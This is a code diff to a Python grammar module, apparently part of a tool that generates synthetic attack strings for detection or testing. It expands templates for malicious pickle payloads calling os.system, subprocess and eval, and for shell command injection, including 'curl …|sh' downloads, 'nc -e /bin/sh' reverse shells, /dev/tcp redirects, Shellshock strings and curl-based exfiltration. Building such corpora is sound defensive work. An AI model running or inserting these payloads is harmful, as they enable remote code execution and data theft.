@@ -5,6 +5,7 @@ from __future__ import annotations
 import base64
 from typing import Final
 
+from weirlog.models.corpus.bare_forms import SHELL_FORMS
 from weirlog.models.corpus.grammar import Chance, Grammar, Rules
 from weirlog.models.corpus.values import LOWER, TERMINALS
 
@@ -29,10 +30,16 @@ def _opaque_object(chance: Chance) -> str:
 
 
 def _pickle(chance: Chance) -> str:
-    body = f"cposix\nsystem\n(S'{chance.letters(LOWER, 2, 8)}'\ntR."
-    if chance.maybe(0.5):
-        return base64.b64encode(body.encode()).decode()
-    return body
+    """Return a pickle of protocol 0 that calls something, as text or in Base64."""
+    module, function = chance.pick(
+        (("posix", "system"), ("os", "system"), ("nt", "system"), ("os", "popen"), ("subprocess", "Popen"), ("commands", "getoutput"),
+         ("subprocess", "check_output"), ("builtins", "eval"), ("__builtin__", "exec"), ("builtins", "exec"), ("pty", "spawn"))
+    )  # fmt: skip
+    argument = chance.pick((chance.letters(LOWER, 2, 8), "id", "whoami", "/bin/sh", "ls -la", "cat /etc/passwd"))
+    mark = chance.pick(("(", "(", "(lp0\n", "p0\n("))
+    end = chance.pick(("tR.", "p1\ntp2\nRp3\n.", "tR"))
+    body = f"c{module}\n{function}\n{mark}{chance.pick(('S', 'V'))}'{argument}'\n{end}"
+    return base64.b64encode(body.encode()).decode() if chance.maybe(0.4) else body
 
 
 def _php_object(chance: Chance) -> str:
@@ -71,7 +78,7 @@ _SHELL: Final[Rules] = {
     "after": ["", "", "", "", "", ";", "#", " #", "|", "&", "'", "\"", ";'", "||", "\n", " &", " ;echo", "%0a", "`", "&&echo «rnd»"],
     "usual": ["«more»", "«more»", "«more»", "id", "whoami", "ls", "cat /etc/passwd", "ls -la", "uname -a", "ping -c «small» «ip»", "curl http://«ip»/«word».sh|sh", "wget http://«host»/«word»", "nc -e /bin/sh «ip» «nn»", "sleep «d»", "dir", "type c:\\boot.ini", "ifconfig", "pwd", "ps -ef", "netstat -an", "nslookup «host»"],
     "joint": [";", "; ", "|", "| ", " | ", "&&", " && ", "||", " & ", "\n"],
-    "cmdi": ["«switch» «before»«joint»«usual»", "«switch» /dev/null«joint»«usual»", "«before» «switch» «word»«joint»«usual»", "x «joint»«usual»«joint»", "«word».«word»«joint»«usual»«joint»«word»", "«file»\"«joint»«usual»«joint»\"", "--«word»=$(«usual»)", "«url»«joint»«usual»", "«before»«joint»«usual»", "«before»«joint»«usual»", "«file»«joint»«usual»", "«ip»«joint»«usual»", "«joint»«usual»", "$(«usual»)", "`«usual»`", "«word»`«usual»`", "«before»$(«usual»)", "«before»«joint»«usual»«after»", "«before»«sep»«tool»«after»", "«before»«sep»«tool»«after»", "«before»«sep»«tool»«after»", "«sep»«tool»«after»", "«sep»«tool»«after»", "$(«tool»)", "`«tool»`", "«before»$(«tool»)", "«before»`«tool»`", "«before»'$(«tool»)'", "«before»\"`«tool»`\"", "a;«tool»;a", "«sep»«tool»«sep»«tool»", "() { :;}; /bin/bash -c '«tool»'", "() { :; }; echo; «tool»", "() { _; } >_[$($())] { «tool»; }",
+    "cmdi": ["«bare_command»", "«bare_command»", "«bare_command»", "«bare_command»", "«bare_command»", "«bare_command»", "«bare_command»", "«bare_command»", "«bare_command»", "«bare_command»", "«bare_command»", "«bare_command»", "«bare_command»", "«bare_command»", "«switch» «before»«joint»«usual»", "«switch» /dev/null«joint»«usual»", "«before» «switch» «word»«joint»«usual»", "x «joint»«usual»«joint»", "«word».«word»«joint»«usual»«joint»«word»", "«file»\"«joint»«usual»«joint»\"", "--«word»=$(«usual»)", "«url»«joint»«usual»", "«before»«joint»«usual»", "«before»«joint»«usual»", "«file»«joint»«usual»", "«ip»«joint»«usual»", "«joint»«usual»", "$(«usual»)", "`«usual»`", "«word»`«usual»`", "«before»$(«usual»)", "«before»«joint»«usual»«after»", "«before»«sep»«tool»«after»", "«before»«sep»«tool»«after»", "«before»«sep»«tool»«after»", "«sep»«tool»«after»", "«sep»«tool»«after»", "$(«tool»)", "`«tool»`", "«before»$(«tool»)", "«before»`«tool»`", "«before»'$(«tool»)'", "«before»\"`«tool»`\"", "a;«tool»;a", "«sep»«tool»«sep»«tool»", "() { :;}; /bin/bash -c '«tool»'", "() { :; }; echo; «tool»", "() { _; } >_[$($())] { «tool»; }",
              "/bin/sh -c «tool»", "cmd.exe /c «tool»", "cat /etc/passwd", "/bin/cat /etc/passwd", "<!--«sep»«tool»-->", "«before»«sep»{«tool»}", "@(«tool»)", "system('«tool»')", "exec('«tool»')", "«before»«sep»$(printf '«tool»')", "ping -c «small» 127.0.0.1;«tool»", "«ip»«sep»«tool»", "«ip»«sep»«tool»«after»", "«host»«sep»«tool»", "«before»«sep»eval «tool»", "$(«tool»>/dev/tcp/«ip»/«nn»)", "<(«tool»)", "%0a«tool»%0a", "x=$(«tool»);curl http://«host»/$x", "\\\";«tool»;\\\""],
     "before": ["", "«word»", "«n»", "«ip»", "«host»", "«file»", "«email»", "«small»", "«rnd»", "test", "«word» «word»"],
 }  # fmt: skip
@@ -122,4 +129,4 @@ _DIRECTORIES: Final[Rules] = {
     "secret_name": ["AWS_SECRET_ACCESS_KEY", "USER", "JAVA_VERSION", "HOSTNAME", "PATH", "DB_PASSWORD"],
 }  # fmt: skip
 
-COMMAND_GRAMMAR: Final = Grammar(TERMINALS, _CODE, _DIRECTORIES, _SHELL)
+COMMAND_GRAMMAR: Final = Grammar(TERMINALS, SHELL_FORMS, _CODE, _DIRECTORIES, _SHELL)
